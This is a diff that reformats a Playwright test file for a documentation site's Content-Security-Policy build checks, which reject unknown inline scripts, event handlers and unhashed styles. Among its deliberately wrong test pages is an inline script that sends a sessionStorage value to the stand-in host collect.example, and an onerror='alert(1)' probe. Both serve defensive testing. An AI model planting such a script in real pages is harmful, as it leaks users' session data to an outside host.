@@ -9,11 +9,24 @@ import path from 'node:path';
 import {test, expect} from '@playwright/test';
 import {apiPages} from '../../api/catalogue/pages';
 import {apiHosts} from '../../api/catalogue/groups';
-import {connectProblems, policyOf, stylesheetHashes, unknownInlineProblems, writtenPageProblems} from '../../plugins/content-security-policy/checks';
+import {
+  connectProblems,
+  policyOf,
+  stylesheetHashes,
+  unknownInlineProblems,
+  writtenPageProblems,
+} from '../../plugins/content-security-policy/checks';
 import {INLINE_SCRIPTS, kindOf, type SiteFacts} from '../../plugins/content-security-policy/inline-scripts';
 import {summarised} from '../../plugins/content-security-policy/index';
 import {scanPage, withPolicy} from '../../plugins/content-security-policy/page';
-import {DIRECTIVES, documentedApiHosts, pagePolicy, parsePolicy, serialisePolicy, sha256} from '../../plugins/content-security-policy/policy';
+import {
+  DIRECTIVES,
+  documentedApiHosts,
+  pagePolicy,
+  parsePolicy,
+  serialisePolicy,
+  sha256,
+} from '../../plugins/content-security-policy/policy';
 import {pagesWritten, writingPages} from '../../plugins/html-writers';
 import {earlyInputScript, scriptStarter} from '../../plugins/page-start';
 import {redirectPage} from '../../plugins/redirects';
@@ -33,7 +46,11 @@ const banner =
 const starter = scriptStarter()(['/assets/js/runtime~main.1.js', '/assets/js/main.2.js']);
 
 /** A built page: the scripts of the <head>, then the body's colour-mode script, the app's HTML and its scripts. */
-function builtPage({head = [earlyInputScript(), starter], app = '<p>Text</p>', policy}: {head?: string[]; app?: string; policy?: string} = {}): string {
+function builtPage({
+  head = [earlyInputScript(), starter],
+  app = '<p>Text</p>',
+  policy,
+}: {head?: string[]; app?: string; policy?: string} = {}): string {
   const meta = policy === undefined ? '' : `<meta http-equiv="Content-Security-Policy" content="${policy}">`;
   const headScripts = head.map((script) => `<script>${script}</script>`).join('');
   return `<!doctype html><html lang=en><head><meta charset=UTF-8>${meta}<title>Page</title>${headScripts}<link rel=stylesheet href=/assets/css/styles.css /></head><body><svg style="display: none;"></svg><script>${colourMode}</script><div id=__docusaurus>${app}</div></body></html>`;
@@ -47,7 +64,12 @@ function withItsPolicy(html: string): string {
 test.describe('the policy', () => {
   test('has every directive the issue names, and never unsafe-inline or unsafe-eval', () => {
     const policy = serialisePolicy(
-      pagePolicy({scriptHashes: [sha256('a()')], stylesheetHashes: [sha256('.a{}')], styleAttributeHashes: [sha256('color: red')], apiHosts: hosts}),
+      pagePolicy({
+        scriptHashes: [sha256('a()')],
+        stylesheetHashes: [sha256('.a{}')],
+        styleAttributeHashes: [sha256('color: red')],
+        apiHosts: hosts,
+      }),
     );
     expect(policy).toBe(
       `default-src 'self'; script-src 'self' ${sha256('a()')}; style-src 'self' ${sha256('.a{}')} 'unsafe-hashes' ${sha256('color: red')}; img-src 'self' data:; ` +
@@ -104,40 +126,62 @@ test.describe('the inline scripts the site knows', () => {
   test('the banner brings the style attributes of the HTML it inserts', () => {
     const html = builtPage({head: [earlyInputScript(), starter, banner]});
     const styleSources = parsePolicy(policyOf(scanPage(html), site, hosts)).get('style-src');
-    expect(styleSources).toEqual(expect.arrayContaining(["'unsafe-hashes'", sha256('border: thick solid red;'), sha256('font-weight: bold;'), sha256('display: none;')]));
+    expect(styleSources).toEqual(
+      expect.arrayContaining([
+        "'unsafe-hashes'",
+        sha256('border: thick solid red;'),
+        sha256('font-weight: bold;'),
+        sha256('display: none;'),
+      ]),
+    );
   });
 });
 
 test.describe('the checks that stop the build, each on a page made wrong on purpose', () => {
   test('a page as the plugin writes it passes them all', () => {
-    const html = withItsPolicy(builtPage({app: `<div class=tabs-container><script>${tabChoice}</script></div><span style="color: red">x</span>`}));
+    const html = withItsPolicy(
+      builtPage({app: `<div class=tabs-container><script>${tabChoice}</script></div><span style="color: red">x</span>`}),
+    );
     expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([]);
   });
 
   test('an inline script the site does not know (one pasted into an MDX page, say) stops the build', () => {
-    const html = builtPage({app: '<div class="theme-doc-markdown markdown"><script>fetch("https://collect.example/?k="+sessionStorage.getItem("key"))</script></div>'});
+    const html = builtPage({
+      app: '<div class="theme-doc-markdown markdown"><script>fetch("https://collect.example/?k="+sessionStorage.getItem("key"))</script></div>',
+    });
     expect(unknownInlineProblems('build/docs/intro.html', scanPage(html), site)).toEqual([
-      expect.stringMatching(/^build\/docs\/intro\.html: an inline script the site does not know \(fetch\("https:\/\/collect\.example\/.*No page may run one.*Fix: remove it/),
+      expect.stringMatching(
+        /^build\/docs\/intro\.html: an inline script the site does not know \(fetch\("https:\/\/collect\.example\/.*No page may run one.*Fix: remove it/,
+      ),
     ]);
   });
 
   test('an inline event handler stops the build', () => {
     const html = builtPage({app: '<img src=/img/logo.svg alt="" onerror="alert(1)">'});
-    expect(unknownInlineProblems('page.html', scanPage(html), site)).toEqual([expect.stringMatching(/^page\.html: an inline event handler \(onerror on <img>\)/)]);
+    expect(unknownInlineProblems('page.html', scanPage(html), site)).toEqual([
+      expect.stringMatching(/^page\.html: an inline event handler \(onerror on <img>\)/),
+    ]);
   });
 
   test('an inline <style> element stops the build', () => {
     const html = builtPage({app: '<div class=markdown><style>.markdown{color:red}</style></div>'});
-    expect(unknownInlineProblems('page.html', scanPage(html), site)).toEqual([expect.stringMatching(/^page\.html: an inline <style> element \(\.markdown\{color:red\}\)/)]);
+    expect(unknownInlineProblems('page.html', scanPage(html), site)).toEqual([
+      expect.stringMatching(/^page\.html: an inline <style> element \(\.markdown\{color:red\}\)/),
+    ]);
   });
 
   test("a policy that lacks the hash of the Try it console's stylesheet stops the build", () => {
     const html = withItsPolicy(builtPage()).replace(` ${sha256(consoleCss)}`, '');
-    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([expect.stringContaining('style-src lacks the hash of the Try it console stylesheet')]);
+    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([
+      expect.stringContaining('style-src lacks the hash of the Try it console stylesheet'),
+    ]);
   });
 
   test('JSON-LD and other data blocks are not scripts: they need no hash', () => {
-    const html = builtPage({head: [earlyInputScript(), starter], app: '<script type="application/ld+json">{"@type":"BlogPosting"}</script>'});
+    const html = builtPage({
+      head: [earlyInputScript(), starter],
+      app: '<script type="application/ld+json">{"@type":"BlogPosting"}</script>',
+    });
     expect(unknownInlineProblems('page.html', scanPage(html), site)).toEqual([]);
     expect(scanPage(html).scripts).toHaveLength(3);
   });
@@ -150,12 +194,16 @@ test.describe('the checks that stop the build, each on a page made wrong on purp
 
   test('an inline script with no matching hash stops the build (a page changed after its policy was written)', () => {
     const html = withItsPolicy(builtPage()).replace('data-theme-choice', 'data-theme-chosen');
-    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([expect.stringMatching(/^page\.html: the inline script "!function\(\)\{var t=.*has no matching hash in script-src/)]);
+    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([
+      expect.stringMatching(/^page\.html: the inline script "!function\(\)\{var t=.*has no matching hash in script-src/),
+    ]);
   });
 
   test('a style attribute with no matching hash stops the build', () => {
     const html = withItsPolicy(builtPage()).replace('style="display: none;"', 'style="display: block;"');
-    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([expect.stringMatching(/^page\.html: 1 style attribute\(s\) with no matching hash in style-src/)]);
+    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([
+      expect.stringMatching(/^page\.html: 1 style attribute\(s\) with no matching hash in style-src/),
+    ]);
   });
 
   test('a connect-src naming a host the catalogue does not document stops the build, and so does one that lacks a documented host', () => {
@@ -164,7 +212,9 @@ test.describe('the checks that stop the build, each on a page made wrong on purp
       expect.stringMatching(/^page\.html: connect-src names https:\/\/collect\.example, which the API catalogue does not document/),
     ]);
     const [dropped = '', ...kept] = hosts;
-    expect(connectProblems('page.html', ["'self'", ...kept], hosts)).toEqual([expect.stringContaining(`connect-src lacks ${dropped}, which the catalogue documents`)]);
+    expect(connectProblems('page.html', ["'self'", ...kept], hosts)).toEqual([
+      expect.stringContaining(`connect-src lacks ${dropped}, which the catalogue documents`),
+    ]);
   });
 
   test("'unsafe-inline' or 'unsafe-eval' in script-src stops the build", () => {
@@ -180,12 +230,20 @@ test.describe('the checks that stop the build, each on a page made wrong on purp
     const meta = /<meta http-equiv="Content-Security-Policy"[^>]*>/.exec(html)?.[0] ?? '';
     const late = html.replace(meta, '').replace('<title>', `<title>`).replace('</title>', `</title>${meta}`);
     expect(writtenPageProblems('page.html', scanPage(late), site, hosts)).toEqual([expect.stringContaining('is not first in <head>')]);
-    expect(writtenPageProblems('page.html', scanPage(html.replace(meta, meta + meta)), site, hosts)).toEqual([expect.stringContaining('has 2 Content-Security-Policy <meta> elements')]);
+    expect(writtenPageProblems('page.html', scanPage(html.replace(meta, meta + meta)), site, hosts)).toEqual([
+      expect.stringContaining('has 2 Content-Security-Policy <meta> elements'),
+    ]);
   });
 });
 
 test('a problem every page shares is told once, with the count and the first pages', () => {
-  const lines = ['a.html: connect-src names x', 'b.html: connect-src names x', 'c.html: connect-src names x', 'd.html: connect-src names x', 'e.html: no policy'];
+  const lines = [
+    'a.html: connect-src names x',
+    'b.html: connect-src names x',
+    'c.html: connect-src names x',
+    'd.html: connect-src names x',
+    'e.html: no policy',
+  ];
   expect(summarised(lines)).toEqual(['4 pages (a.html, b.html, c.html, …): connect-src names x', 'e.html: no policy']);
 });
 
@@ -198,13 +256,17 @@ test.describe('writing the policy', () => {
       `<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'self'"><title>t</title></head></html>`,
     );
     const redirect = withItsPolicy(redirectPage('/docs/intro', 'https://docs.spacescan.io/docs/intro', 'Introduction'));
-    expect(redirect).toMatch(/^<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" /);
+    expect(redirect).toMatch(
+      /^<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" /,
+    );
     expect(scanPage(redirect).policyFirst).toBe(true);
   });
 
   test('never twice: a page that already has a policy is refused', () => {
     const html = withItsPolicy(builtPage());
-    expect(() => withPolicy(html, "default-src 'self'", 'build/a.html')).toThrow(/build\/a\.html already has a Content-Security-Policy <meta>/);
+    expect(() => withPolicy(html, "default-src 'self'", 'build/a.html')).toThrow(
+      /build\/a\.html already has a Content-Security-Policy <meta>/,
+    );
   });
 });
 
@@ -214,8 +276,14 @@ test.describe('the plugins that write pages after the build', () => {
     const order: string[] = [];
     // The policy plugin asks first, as it would if the config listed it first.
     const policy = pagesWritten(outDir).then((ok) => order.push(`policy (${ok})`));
-    writingPages(outDir, new Promise((resolve) => setTimeout(resolve, 50)).then(() => order.push('page-start')));
-    writingPages(outDir, Promise.resolve().then(() => order.push('redirects')));
+    writingPages(
+      outDir,
+      new Promise((resolve) => setTimeout(resolve, 50)).then(() => order.push('page-start')),
+    );
+    writingPages(
+      outDir,
+      Promise.resolve().then(() => order.push('redirects')),
+    );
     await policy;
     expect(order).toEqual(['redirects', 'page-start', 'policy (true)']);
   });
